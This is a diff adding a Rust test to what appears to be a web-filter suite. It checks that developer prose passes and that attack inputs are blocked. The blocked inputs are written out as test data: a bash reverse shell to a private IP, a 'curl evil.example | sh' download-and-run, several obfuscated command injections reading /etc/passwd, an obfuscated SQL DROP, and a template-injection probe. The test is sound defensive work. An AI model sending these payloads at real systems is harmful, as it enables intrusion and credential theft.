@@ -275,3 +275,28 @@ fn query_urls_to_other_sites_block() {
     passes(json(r#"{"link":"https://evil.example/shell.txt"}"#));
     passes(query("x=https://evil.example/shell.txt"));
 }
+
+#[test]
+fn developer_prose_passes_and_its_attack_twins_block() {
+    for line in [
+        "bash (5.2.15-2) unstable; urgency=medium",
+        "Bash is distributed in the hope that it will be useful, but WITHOUT",
+        "Stop using debconf to select the default /bin/sh.",
+        "Use $(MAKE) instead of hard-coding the make command; pass CC=$(CC).",
+        "libxaw7{,-dbg} don't need to depend on x11-common.",
+        "* debian/{changelog,control}: add build-{arch,indep} targets",
+        "Files: src/*/ssl/keystore",
+        "File \"src/app/__init__.py\", line 3, in <module>",
+    ] {
+        passes(json(&serde_json::json!({ "message": line }).to_string()));
+    }
+    blocks(query("a=bash%20-i%20>%26%20/dev/tcp/10.0.0.1/4444%200>%261"), Class::Rce);
+    blocks(query("a=curl%20evil.example%20|%20sh"), Class::Rce);
+    blocks(query("a=%3B/bin/sh"), Class::Rce);
+    blocks(query("a=c%7Ba,oun%7Dt%20/etc/passwd"), Class::Rce);
+    blocks(query("a=%7Bcat,/etc/passwd%7D"), Class::Rce);
+    blocks(query("a=%24(whoami)"), Class::Rce);
+    blocks(query("a=/???/c?t%20/???/p??s??"), Class::Rce);
+    blocks(query("test=DR/**/OP/*x*/sampletable"), Class::Sqli);
+    blocks(query("t={{''.__class__.__mro__[1].__subclasses__()}}"), Class::Template);
+}
